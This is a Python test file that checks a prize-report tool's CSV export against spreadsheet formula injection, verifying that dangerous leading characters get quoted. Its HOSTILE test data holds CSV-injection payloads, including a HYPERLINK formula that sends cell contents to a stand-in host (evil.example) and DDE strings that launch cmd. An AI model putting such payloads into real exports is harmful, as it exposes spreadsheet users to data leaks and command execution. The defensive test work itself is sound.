"""The CSV report never hands a spreadsheet a formula (OWASP, "CSV Injection"): names come from producers.

Players, leagues, seasons and events whose names begin with ``=``, ``+``, ``-``, ``@``, a tab, a carriage
return, a line feed or NUL (issue 18 item 5) go through ``prizecheck report --format csv`` for real, and
the file is read back as a spreadsheet would: no cell starts a formula, every name is still there (after
the quote that neutralises it), and the numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from replay.cli import main
from replay.codec import encode_jsonl
from replay.sheet_format import FORMULA_START, neutral_cell
from tests.streams.ingest.support import game

HOSTILE = {
    "league": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "season": "+1+cmd|' /C calc'!A0",
    "event": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ash": "-2+3+cmd|' /C calc'!A0",
    "misty": "\t=1+1",
    "brock": "\r=1+1",
    "gary": "  =1+1",  # after spaces: Calc and Sheets still read a formula
}


def _events() -> list[dict[str, object]]:
    out: list[dict[str, object]] = []
    for n, (a, b) in enumerate((("ash", "misty"), ("brock", "gary"))):
        events = game(f"m{n}")
        for e in events:
            for key in ("player", "first", "winner"):
                if e.get(key) in ("ash", "misty"):
                    e[key] = HOSTILE[a] if e[key] == "ash" else HOSTILE[b]
            if e["type"] == "match_started":
                e["players"] = [HOSTILE[a], HOSTILE[b]]
                e["context"] = {
                    "league": HOSTILE["league"],
                    "season": HOSTILE["season"],
                    "event": HOSTILE["event"],
                    "round": 1,
                    "series": f"r1-t{n}",
                    "game": 1,
                    "stage": "swiss",
                }
        out += events
    return out


def test_no_cell_of_the_csv_report_starts_a_formula(tmp_path: Path) -> None:
    events = tmp_path / "hostile.jsonl"
    events.write_bytes(encode_jsonl(_events()))
    out = tmp_path / "report.csv"
    assert main(["report", str(events), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"))))
    assert len(rows) > 20
    texts = [cell for row in rows[1:] for cell in row[:6]]
    for cell in texts:
        assert cell[:1] not in FORMULA_START and cell.lstrip(" ")[:1] not in FORMULA_START, cell
    shown = set(texts)
    for name in (HOSTILE["league"], HOSTILE["season"], HOSTILE["event"], HOSTILE["ash"], HOSTILE["misty"]):
        assert "'" + name in shown, name  # kept, after the quote that makes it text
    values = [row[6] for row in rows[1:] if row[6]]
    assert all(v[:1] != "'" for v in values)  # numbers are numbers: a negative one stays one
    assert any(float(v) >= 1 for v in values)
    # every text cell is quoted (a carriage return in a name stays in its cell), numbers are not
    for line in out.read_bytes().decode("utf-8").split("\n")[1:3]:
        assert line.startswith('"') and not line.endswith('"'), line


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t1", "'\t1"),
        ("\r1", "'\r1"),
        ("\n1", "'\n1"),
        ("\0x", "'\0x"),
        (" =1", "' =1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("ash", "ash"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (0.5, 0.5),
    ],
)
def test_a_cell_is_neutralised_only_where_it_would_be_a_formula(value: object, written: object) -> None:
    assert neutral_cell(value) == written
